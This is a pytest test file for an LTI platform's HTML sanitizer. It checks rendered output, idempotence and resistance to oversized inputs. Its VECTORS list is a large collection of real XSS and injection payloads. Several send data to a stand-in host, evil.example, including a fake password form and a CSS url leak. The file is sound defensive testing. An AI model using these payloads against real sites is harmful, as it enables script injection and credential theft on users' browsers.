"""HTML of tools is harmless before anybody sees it (LTI Deep Linking 2.0 §3.1, §3.4)."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lti.platform.rules.html import ATTRIBUTES, TAGS, sanitized

SANDBOX = "allow-scripts allow-same-origin allow-forms allow-popups allow-presentation"
ADDED = {"rel", "sandbox", "referrerpolicy", "loading", "controls", "preload"}


class Reader(HTMLParser):
    """Notes the elements and the text of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(attrs) == len(dict(attrs))
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> None:
    """Check every element of sanitized HTML against what may be there."""
    read = Reader(html)
    assert read.other == []
    for tag, attributes in read.elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | ADDED
        for name in ("src", "href"):
            url = attributes.get(name, "https://")
            assert url is not None
            assert url.lower().startswith(("https://", "http://", "mailto:") if tag == "a" else ("https://", "http://"))
        style = attributes.get("style") or ""
        assert not [word for word in ("url", "position", "expression", "\\", "@", "/*", "<") if word in style.lower()]
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"
            assert attributes.get("target", "_blank") == "_blank"
        if tag == "iframe":
            assert (attributes["src"] or "").lower().startswith("https://")
            assert attributes["sandbox"] == SANDBOX


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://x.example/a.png onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="jav\tascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1)">',
    "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#58;alert(1)>",
    "<img src=data:image/png;base64,iVBORw0KGgo=>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="https://x.example/a.png 1x, javascript:alert(1) 2x">',
    '<img src=https://x.example/a.png longdesc="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/logout">x</a>',
    '<a href="https://lms.example\\@evil.example/">x</a>',
    '<a href="https://ana:secret@evil.example/">x</a>',
    '<a href="mailto:ana@example.org?bcc=all@example.org&body=%0a">x</a>',
    '<a href="https://x.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<a href="https://x.example" target="_top" rel="opener" ping="https://evil.example">x</a>',
    '<a href="https://x.example" download="x.exe" id="csrf" name="forms" class="admin">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=http://x.example></iframe>",
    "<iframe src=//x.example></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src=https://x.example srcdoc="<script>alert(1)</script>" sandbox="allow-top-navigation" onload=alert(1)>',
    '<iframe src=https://x.example name="forms" allow="camera; microphone *; autoplay; geolocation"></iframe>',
    "<iframe src=https://x.example></iframe\t><img src=x onerror=alert(1)>",
    "<iframe src=https://x.example><img src=x onerror=alert(1)></iframe>",
    "<iframe src=https://x.example><script>alert(1)</script>",
    '<img title="</iframe><script>alert(1)</script>"><iframe src=https://x.example>',
    "<object data=javascript:alert(1)></object>",
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    "<embed src=https://evil.example/x.swf>",
    "<applet code=Evil></applet>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(https://evil.example/?leak)">x</p>',
    '<p style="background-color:url(javascript:alert(1))">x</p>',
    '<p style="background-color:\\75rl(https://evil.example)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x#y)">x</p>',
    '<p style="color:red/*;*/;position:absolute">x</p>',
    "<p style='font-family:\"x&quot;;position:fixed'>x</p>",
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<video src=x onerror=alert(1)></video>",
    '<video poster="javascript:alert(1)"><source onerror=alert(1) src=javascript:alert(1)></video>',
    "<audio autoplay src=https://x.example/a.mp3 onplay=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    '<div style="behavior:url(#default#time2)" onbegin=alert(1)>x</div>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x onclick=alert(1) style=animation-name:x onanimationstart=alert(1)>x</x>",
    '<p id="x" name="y" class="z" data-x="1" contenteditable tabindex=1 accesskey=x slot=s is=i>x</p>',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<img src="https://x.example/a.png" alt="`><script>alert(1)</script>">',
    "<p/onclick=alert(1)>x",
    "<p onclick\x0b=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=https://x.example/\u2028onclick=alert(1)>x</a>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_well_known_attacks_come_to_nothing(vector: str) -> None:
    html = sanitized(f"<p>before</p>{vector}")
    assert_harmless(html)
    assert html.startswith("<p>before</p>")
    assert sanitized(html) == html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<h1>Title</h1><p>A <b>bold</b> and <em lang="de">wahrer</em> text &amp; more.</p>',
            '<h1>Title</h1><p>A <b>bold</b> and <em lang="de">wahrer</em> text &amp; more.</p>',
        ),
        (
            '<ul><li>one</li></ul><ol start="2" type="a"><li value="3">two</li></ol><hr><pre><code>x < y</code></pre>',
            '<ul><li>one</li></ul><ol start="2" type="a"><li value="3">two</li></ol><hr>'
            "<pre><code>x &lt; y</code></pre>",
        ),
        (
            '<table><tr><th scope="col">a</th></tr><tr><td colspan="2">b</td></tr></table>',
            '<table><tbody><tr><th scope="col">a</th></tr><tr><td colspan="2">b</td></tr></tbody></table>',
        ),
        (
            '<a href="https://x.example/?a=1&amp;b=2#c" target="_blank" title="there">x</a>',
            '<a href="https://x.example/?a=1&amp;b=2#c" target="_blank" title="there" rel="noopener noreferrer">x</a>',
        ),
        ('<a href="mailto:bo@example.org">x</a>', '<a href="mailto:bo@example.org" rel="noopener noreferrer">x</a>'),
        (
            '<img src="https://x.example/a.png" alt="A cat" width="10" height="20">',
            '<img src="https://x.example/a.png" alt="A cat" width="10" height="20"'
            ' referrerpolicy="no-referrer" loading="lazy">',
        ),
        (
            '<p style="color: red; position: fixed; text-align:center;">x</p>',
            '<p style="color:red;text-align:center">x</p>',
        ),
        (
            '<p style="background-color: rgba(1, 2, 3, .5)">x</p>',
            '<p style="background-color:rgba(1, 2, 3, .5)">x</p>',
        ),
        (
            '<iframe width="560" height="315" src="https://www.youtube.com/embed/x" frameborder="0"'
            ' allow="autoplay; encrypted-media; camera" allowfullscreen></iframe>',
            '<iframe width="560" height="315" src="https://www.youtube.com/embed/x"'
            ' allow="autoplay; encrypted-media" allowfullscreen="" loading="lazy"'
            f' referrerpolicy="strict-origin-when-cross-origin" sandbox="{SANDBOX}"></iframe>',
        ),
        ("<iframe>nothing</iframe>left", "left"),
        ("plain text, 1 < 2", "plain text, 1 &lt; 2"),
        ("<pre>\n\n\n\n\n\n\n\n\n\n\n\nx</pre>", "<pre>x</pre>"),
        ("", ""),
    ],
)
def test_what_people_read_and_watch_is_kept(html: str, expected: str) -> None:
    # The order of attributes is the sanitizer's own.
    assert Reader(sanitized(html)).elements == Reader(expected).elements
    assert len(sanitized(html)) == len(expected)


def test_half_a_character_is_replaced() -> None:
    assert sanitized("<p>a\ud800b</p>") == "<p>a?b</p>"


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 20_000,
        "<table>" * 5_000,
        "<a href=https://x.example>" * 2_000,
        "<p>" * 20_000 + "</p>" * 20_000,
        "<iframe>" * 7_000,
        "<pre>\n" * 9_000,
        "<b><i><u><p>" * 3_000,
        "<" * 30_000,
        "&" * 30_000,
        '<p style="' + "color:red;" * 2_900 + '">',
        '<p style="' + "color:" + "a" * 29_000 + '">',
        '<iframe src="https://x.example" ' + "a" * 29_000,
        "".join(f"<p><b title={n}>x</p>" for n in range(1_500)),
        "<p>" + "".join(f"<b title={n}>" for n in range(900)) + "<p>x" * 4_000,
        f"<p><b title='{'&' * 15_000}'>" + "<p>x" * 4_000,
        "<template>" + "".join(f"<p><i lang={n}>x</p>" for n in range(1_500)),
        "<svg><title>" + "".join(f"<p><i lang={n}>x</p>" for n in range(1_500)),
        "<math><annotation-xml encoding=text/html>" + "".join(f"<p><i lang={n}>x</p>" for n in range(1_500)),
        "<object>" + "".join(f"<p><font color={n}>x</p>" for n in range(1_500)),
        "<table>" + "".join(f"<tr><b title={n}>x" for n in range(1_500)),
        "".join(f"<a href=https://x.example/{n}><table>" for n in range(800)),
    ],
)
def test_much_of_anything_takes_little_time(html: str) -> None:
    """Some of these would become hundreds of megabytes by the rules for markup that isn't closed."""
    begin = time.monotonic()
    once = sanitized(html[:30_000])
    assert time.monotonic() - begin < 10
    assert len(once) < 2_000_000
    assert_harmless(once)
    assert sanitized(once) == once


WORDS = """
    <p> </p> <a_href='https://x.example'> <a_href='javascript:1'> </a> <table> <tr> <td> </table> <pre> </pre>
    <iframe_src='https://x.example'> <iframe_srcdoc='<p>'> </iframe> <svg> </svg> <math> <mtext> <mglyph> </math>
    <style> </style> <script> </script> <title> </title> <textarea> </textarea> <select> <option> </select> <form>
    <template> </template> <noscript> </noscript> <!-- --> <![CDATA[ ]]> <img_src=x_onerror=alert(1)> <b> </b> <i> <li>
    <ul> </ul> <dd> <h1> </h1> <ruby> <rt> <details> <summary> <nobr> <br> <p_style='position:fixed;color:red'>
    <p_title=' ' " > < &lt; &quot; &nbsp; &#0; x <annotation-xml_encoding='text/html'> <foreignObject> <desc> <frameset>
    <body> <html> <head> <caption> <colgroup> <col> <video_src='https://x.example'> <source_src='https://x.example'>
    <plaintext> <xmp> <noembed> <noframes> <object> <applet> <marquee> <button> <font> <big> _
    """
PIECES = st.sampled_from([word.replace("_", " ") for word in WORDS.split()] + ["\n", "\0", "\f", "\r"])


@given(st.lists(PIECES | st.text(max_size=5), max_size=40).map("".join))
@settings(max_examples=500, deadline=None)
def test_whatever_comes_is_harmless_and_sanitizing_it_again_changes_nothing(html: str) -> None:
    once = sanitized(html)
    assert_harmless(once)
    assert sanitized(once) == once


@given(st.text(alphabet="<>/=\"' \n&;:#abcdefghijklmnopqrstuvwxyz\x00\x0c", max_size=200))
@settings(max_examples=300, deadline=None)
def test_whatever_is_typed_is_harmless_and_sanitizing_it_again_changes_nothing(html: str) -> None:
    once = sanitized(html)
    assert_harmless(once)
    assert sanitized(once) == once
